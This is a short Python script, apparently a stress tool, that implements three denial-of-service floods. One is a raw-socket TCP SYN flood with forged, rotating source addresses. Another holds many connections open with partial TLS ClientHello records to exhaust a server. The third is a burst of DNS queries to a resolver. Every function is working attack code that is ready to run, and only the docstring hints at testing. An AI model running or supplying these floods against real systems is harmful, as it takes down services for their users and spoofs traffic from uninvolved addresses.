#!/usr/bin/python3
# SPDX-License-Identifier: GPL-3.0-or-later
"""Clients that want more than their share.

usage: floods.py syns FROM TO PORT COUNT SOURCES
           SYNs, from COUNT ports in turn, of SOURCES addresses from FROM on
       floods.py hellos TO PORT COUNT BYTES SECONDS
           COUNT connections that say the first BYTES of a hello and stay open
       floods.py questions TO COUNT
           COUNT questions to a resolver, each from a port of its own
"""
import ipaddress
import resource
import socket
import struct
import sys
import time


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total >> 16) + (total & 0xFFFF)
    return ~total & 0xFFFF


def syn(source, target, sport, dport):
    head = struct.pack("!HHIIBBHHH", sport, dport, 1000, 0, 0x50, 2, 65535, 0, 0)
    pseudo = source.packed + target.packed + struct.pack("!II", len(head), 6)
    head = head[:16] + struct.pack("!H", checksum(pseudo + head)) + head[18:]
    if target.version == 4:
        return struct.pack("!BBHHHBBH", 0x45, 0, 40, 1, 0, 64, 6, 0) + \
            source.packed + target.packed + head
    return struct.pack("!IHBB", 0x60000000, len(head), 6, 64) + \
        source.packed + target.packed + head


def syns(first, to, port, count, sources):
    source, target = ipaddress.ip_address(first), ipaddress.ip_address(to)
    family = socket.AF_INET if target.version == 4 else socket.AF_INET6
    out = socket.socket(family, socket.SOCK_RAW, socket.IPPROTO_RAW)
    for i in range(int(count)):
        out.sendto(syn(source + i % int(sources), target, 1024 + i % 60000, int(port)), (to, 0))
    return count


def hello():
    """The beginning of a record that is never whole."""
    return b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"\x11" * 300


def hellos(to, port, count, size, seconds):
    count, until, said = int(count), time.monotonic() + float(seconds), 0
    resource.setrlimit(resource.RLIMIT_NOFILE, (count + 100, count + 100))
    family = socket.AF_INET6 if ":" in to else socket.AF_INET
    waiting = []
    for _ in range(count):
        s = socket.socket(family, socket.SOCK_STREAM)
        s.setblocking(False)
        s.connect_ex((to, int(port)))
        waiting.append(s)
    everyone = list(waiting)
    while time.monotonic() < until:
        still = []
        for s in waiting:
            try:
                s.send(hello()[:int(size)])
                said += 1
            except BlockingIOError:
                still.append(s)
            except OSError:
                pass
        waiting = still
        time.sleep(0.05)
    for s in everyone:
        s.close()
    return said


def questions(to, count):
    family = socket.AF_INET6 if ":" in to else socket.AF_INET
    for i in range(int(count)):
        name = b"".join(bytes([len(p)]) + p for p in (b"n%d" % i, b"flood", b"test"))
        s = socket.socket(family, socket.SOCK_DGRAM)
        try:
            s.sendto(struct.pack("!HHHHHH", i & 0xFFFF, 0x100, 1, 0, 0, 0) + name +
                     struct.pack("!BHH", 0, 1, 1), (to, 53))
        except OSError:
            pass
        s.close()
    return count


print({"syns": syns, "hellos": hellos, "questions": questions}[sys.argv[1]](*sys.argv[2:]))
